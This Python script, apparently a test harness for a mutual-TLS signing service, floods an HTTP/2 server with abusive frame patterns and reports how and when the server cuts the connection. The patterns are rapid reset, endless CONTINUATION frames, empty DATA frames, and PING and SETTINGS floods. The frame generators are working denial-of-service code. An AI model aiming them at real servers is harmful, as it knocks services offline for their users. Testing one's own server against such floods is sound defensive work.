#!/usr/bin/env python3
"""Floods an HTTP/2 server with frames that no library would send.

flood.py KIND ADDRESS PORT CA CERTIFICATE KEY SECONDS

Prints JSON: how many frames were sent, the error code of the GOAWAY that came (null: none), the
statuses of answers, whether the server ended the connection, and after how long.
"""
import json
import socket
import ssl
import sys
import threading
import time

import hpack
from hyperframe.frame import (
    ContinuationFrame,
    DataFrame,
    Frame,
    GoAwayFrame,
    HeadersFrame,
    PingFrame,
    RstStreamFrame,
    SettingsFrame,
)

PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"


def head(encoder):
    return encoder.encode(
        [
            (":method", "POST"),
            (":scheme", "https"),
            (":authority", "localhost"),
            (":path", "/v1/sign"),
            ("content-type", "application/json"),
        ]
    )


def rapid_reset():
    """Requests that are taken back at once."""
    encoder, stream = hpack.Encoder(), 1
    while True:
        headers = HeadersFrame(stream, data=head(encoder), flags=["END_HEADERS"])
        yield headers.serialize() + RstStreamFrame(stream, error_code=8).serialize()
        stream += 2


def continuation():
    """Headers that never end."""
    encoder = hpack.Encoder()
    yield HeadersFrame(1, data=head(encoder)).serialize()
    # Literals without indexing, each a header of its own.
    piece = b"".join(b"\x00\x04x-%02d\x08" % number + b"a" * 8 for number in range(100))
    while True:
        yield ContinuationFrame(1, data=piece).serialize()


def empty_continuation():
    """Headers that never end and never get longer."""
    yield HeadersFrame(1, data=head(hpack.Encoder())).serialize()
    while True:
        yield ContinuationFrame(1).serialize()


def empty_data():
    """A body of nothing, without end."""
    yield HeadersFrame(1, data=head(hpack.Encoder()), flags=["END_HEADERS"]).serialize()
    while True:
        yield DataFrame(1).serialize()


def ping():
    """Pings, whose answers are not read."""
    while True:
        yield PingFrame(0, opaque_data=b"12345678").serialize()


def settings():
    """Settings, each of which has to be acknowledged."""
    while True:
        yield SettingsFrame(0, settings={3: 100}).serialize()


KINDS = {kind.__name__: kind for kind in
         (rapid_reset, continuation, empty_continuation, empty_data, ping, settings)}


class Reader(threading.Thread):
    """Reads what comes, until the connection ends."""

    def __init__(self, stream):
        super().__init__(daemon=True)
        self.stream, self.goaway, self.statuses, self.ended = stream, None, [], None

    def run(self):
        buffer, decoder, begun = b"", hpack.Decoder(), time.monotonic()
        try:
            while received := self.stream.recv(65536):
                buffer += received
                while len(buffer) >= 9:
                    frame, length = Frame.parse_frame_header(memoryview(buffer[:9]))
                    if len(buffer) < 9 + length:
                        break
                    frame.parse_body(memoryview(buffer[9:9 + length]))
                    buffer = buffer[9 + length:]
                    if isinstance(frame, GoAwayFrame):
                        self.goaway = frame.error_code
                    if isinstance(frame, HeadersFrame):
                        self.statuses += [int(value) for name, value in decoder.decode(frame.data)
                                          if name in (":status", b":status")]
        except (OSError, ValueError):
            pass
        self.ended = time.monotonic() - begun


def main():
    kind, address, port, ca, certificate, key, seconds = sys.argv[1:]
    context = ssl.create_default_context(cafile=ca)
    context.load_cert_chain(certificate, key)
    context.set_alpn_protocols(["h2"])
    raw = socket.create_connection((address, int(port)), timeout=30)
    stream = context.wrap_socket(raw, server_hostname="localhost")
    stream.settimeout(float(seconds))
    stream.sendall(PREFACE + SettingsFrame(0).serialize())
    reader = Reader(stream)
    if kind != "ping":
        reader.start()
    frames, sent, begun, error = KINDS[kind](), 0, time.monotonic(), None
    try:
        while time.monotonic() - begun < float(seconds) and reader.ended is None:
            batch = [next(frames) for _ in range(64)]
            sent += len(batch)
            stream.sendall(b"".join(batch))
    except OSError as failed:
        error = str(failed)
    if reader.is_alive():
        reader.join(5)
    print(json.dumps({
        "sent": sent, "goaway": reader.goaway, "statuses": reader.statuses,
        "ended": error is not None or reader.ended is not None,
        "after_s": round(time.monotonic() - begun, 3), "error": error,
    }))


main()
